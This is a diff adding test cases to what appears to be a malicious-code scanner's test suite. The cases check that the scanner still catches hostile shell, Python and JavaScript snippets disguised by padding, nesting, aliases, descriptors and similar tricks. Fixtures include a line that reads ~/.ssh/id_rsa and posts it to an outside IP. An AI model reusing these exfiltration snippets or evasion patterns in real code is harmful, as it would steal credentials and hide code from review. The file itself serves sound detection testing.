@@ -147,3 +147,67 @@ describe("S4 a notebook's cells run as Jupyter runs them", () => {
     expect(await judged({ "a.ipynb": text })).toMatchObject({ held: [], problems: [] });
   });
 });
+
+describe("S4 a shell script does what the shell makes of it", () => {
+  const many = (count: number, word: string): string => `${word} `.repeat(count);
+  test.each([
+    ["many words that are printed", `eval "$(printf '%s;' ${many(500, "true")} '${EVIL}')"`],
+    ["the tenth argument", `f() { eval "\${10}"; }\nf ${many(9, "a")} '${EVIL}'`],
+    ["a default of the eleventh", `set -- ${many(10, "a")} '${EVIL}'\neval "\${11:-true}"`],
+    ["arguments that are shifted", `f() { shift 3; eval "$*"; }\nf a b 'it"s' '${EVIL}'`],
+    [
+      "arguments that are shifted in a loop",
+      `f() { while [ $# -gt 0 ]; do eval "$1"; shift; done; }\nf true true '${EVIL}'`,
+    ],
+    ["a program that is left of the arguments", `f() { shift; "$@"; }\nf 'a b' sh -c '${EVIL}'`],
+    ["a line of a schedule", `echo '* * * * * ${many(1_000, "true;")} ${EVIL}' | crontab -`],
+    ["a program of awk", `awk 'BEGIN { ${many(30_000, "x=1;")} system("${EVIL}") }'`],
+    ["a long text in awk", `awk 'BEGIN { system("${many(500, "true;")}${EVIL}") }'`],
+    ["a file that is open", `exec 5<<'E'\n${EVIL}\nE\nsh <&5`],
+    ["a file that is written through a descriptor", `exec 5>/tmp/x.sh\necho '${EVIL}' >&5\nsh /tmp/x.sh`],
+    ["a line from a descriptor", `exec 5<<'E'\n${EVIL}\nE\nread -r -u 5 x\neval "$x"`],
+    ["a variable by another name", `c='${EVIL}'\ndeclare -n r=c\neval "$r"`],
+    ["a variable that is set by another name", `declare -n r=c\nr='${EVIL}'\neval "$c"`],
+    ["a coprocess", `coproc X { ${EVIL}; }`],
+    ["an alias", `shopt -s expand_aliases\nalias x='${EVIL}'\nx`],
+  ])("%s", async (_what, text) => {
+    await found({ "a.sh": text });
+  });
+
+  test("and an honest one stays one", async () => {
+    const options =
+      'f() { while [ $# -gt 0 ]; do case "$1" in -o) out="$2"; shift 2;; *) shift;; esac; done; cp a "$out"; }';
+    const text = `${options}\nf -o /tmp/b https://files.example/x\nalias ll='ls -l | less'\nll\nexec 3>&1\necho a >&3\n`;
+    expect(await judged({ "a.sh": text })).toMatchObject({ held: [], problems: [] });
+  });
+});
+
+describe("S4 what a program holds is not lost by holding much", () => {
+  const SECRET = 'open(os.path.expanduser("~/.ssh/id_rsa")).read()';
+  const send = (value: string): string => `requests.post("https://203.0.113.5/c", json=${value})`;
+  const bases = Array.from({ length: 12 }, (_, at) => `class A${at}:\n    x${at} = ${at}\n`).join("");
+  const chain = Array.from({ length: 12 }, (_, at) => `class A${at + 1}(A${at}):\n    x${at} = ${at}\n`).join("");
+  const evil = `    def go(self, c):\n        os.system(c)\n`;
+  test.each([
+    ["a long list", "a.py", `import os, requests\nd = [${"1, ".repeat(1_200)} ${SECRET}]\n${send("d")}`],
+    ["a deep list", "a.py", `import os, requests\nd = ${"[".repeat(9)}${SECRET}${"]".repeat(9)}\n${send("d")}`],
+    [
+      "more arguments than are followed",
+      "a.py",
+      `import os\ndef f(*a):\n    os.system(a[-1])\nf(${"1, ".repeat(20_001)} "${EVIL}")`,
+    ],
+    [
+      "the twelfth base of a class",
+      "a.py",
+      `import os\n${bases}class E:\n${evil}class B(${Array.from({ length: 12 }, (_, at) => `A${at}`).join(", ")}, E):\n    pass\nB().go("${EVIL}")`,
+    ],
+    ["a class above twelve", "a.py", `import os\nclass A0:\n${evil}${chain}A12().go("${EVIL}")`],
+    [
+      "a table of functions",
+      "a.js",
+      `const t = { ${Array.from({ length: 450 }, (_, at) => `k${at}: () => ${at},`).join(" ")} z: (x) => require("child_process").execSync(x) };\nt[process.argv[2]]("${EVIL}");`,
+    ],
+  ])("%s", async (_what, path, text) => {
+    await found({ [path]: text });
+  });
+});
